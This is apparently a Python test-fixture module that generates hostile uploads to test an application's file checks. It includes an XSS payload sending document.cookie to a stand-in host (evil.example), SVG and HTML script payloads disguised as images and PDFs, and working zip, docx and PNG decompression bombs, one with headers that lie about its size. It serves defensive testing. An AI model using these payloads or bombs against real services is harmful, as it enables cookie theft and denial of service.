"""Hostile files, built small and fast: each poses as something the upload points accept."""

import io
import struct
import zipfile
import zlib
from functools import cache

GIB = 1024**3
CHUNK = 16 * 1024 * 1024


def tiny_pdf(text: str = "test") -> bytes:
    """A minimal but complete PDF (header, one page, trailer, %%EOF)."""
    return (
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        f"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n% {text}\n"
        "trailer<</Root 1 0 R>>\n%%EOF\n"
    ).encode("latin-1")


def png_bytes(size=(8, 8)) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, "white").save(buffer, format="PNG")
    return buffer.getvalue()


HTML_AS_PDF = b"<!DOCTYPE html><html><body><script>fetch('/admin/').then(r=>r.text())</script></body></html>"
SVG_AS_PNG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><rect/></svg>'
JS_AS_PNG = b"alert(document.cookie);\nnew Image().src='//evil.example/?'+document.cookie;\n"
# The PDF's body and %%EOF are there; only the header is not a PDF header.
PDF_WRONG_HEADER = b"%PDX-1.4" + tiny_pdf()[8:]


def _chunk(tag: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))


def huge_png(width: int = 30000, height: int = 30000) -> bytes:
    """A PNG that declares 30000×30000 pixels (900 megapixels) in a few hundred bytes: a real
    decoder would need gigabytes to unpack it."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    rows = zlib.compressobj(9)
    data = rows.compress(b"\0" * (width + 1) * 16) + rows.flush()  # the first rows only
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


@cache
def _zeros_deflated(size: int) -> tuple[bytes, int]:
    """A raw deflate stream of `size` zero bytes and their CRC-32, without compressing all of
    them: a full flush makes each 16 MB block stand alone, so one block repeated is the stream."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(b"\0" * CHUNK) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc, zero = 0, b"\0" * CHUNK
    for _ in range(size // CHUNK):
        crc = zlib.crc32(zero, crc)
    return block * (size // CHUNK) + b"\x03\x00", crc  # \x03\x00: an empty final block


def zip_with_bomb(
    small: dict[str, bytes], bomb_name: str, size: int = GIB, declared: int | None = None
) -> bytes:
    """A zip of `small` members (stored deflated as usual) and one member `bomb_name` that unpacks
    to `size` zero bytes (1 GiB by default) from about a megabyte; `declared` makes its headers lie
    about the size."""
    members = [
        (name, zlib.compress(data, 9)[2:-4], zlib.crc32(data), len(data)) for name, data in small.items()
    ]
    stream, crc = _zeros_deflated(size)
    members.append((bomb_name, stream, crc, size if declared is None else declared))
    out, central = io.BytesIO(), io.BytesIO()
    for name, data, crc, usize in members:
        encoded = name.encode()
        offset = out.tell()
        fields = (20, 0, 8, 0, 0x21, crc, len(data), usize, len(encoded), 0)
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields) + encoded + data)
        central.write(
            struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, 0, 0, 0, 0, offset) + encoded
        )
    directory = central.getvalue()
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), out.tell(), 0
    )
    return out.getvalue() + directory + end


CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
)


def docx_bomb() -> bytes:
    return zip_with_bomb({"[Content_Types].xml": CONTENT_TYPES}, "word/document.xml")


def lying_docx_bomb() -> bytes:
    """A 1 GiB member whose headers declare 4 KB: it passes a directory check."""
    return zip_with_bomb({"[Content_Types].xml": CONTENT_TYPES}, "word/document.xml", declared=4096)


def xlsx_bomb() -> bytes:
    return zip_with_bomb(
        {"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>"}, "xl/worksheets/sheet1.xml"
    )


def docx_without_document() -> bytes:
    """A zip dressed as a Word file (content types, styles) without its main part."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/styles.xml", "<w:styles/>")
        archive.writestr("docProps/app.xml", "<Properties/>")
    return buffer.getvalue()


def oversize(limit: int) -> bytes:
    """A well-formed PDF just over `limit` bytes."""
    pdf = tiny_pdf()
    return pdf[:-7] + b"%" + b"0" * (limit - len(pdf) + 64) + b"\n%%EOF\n"
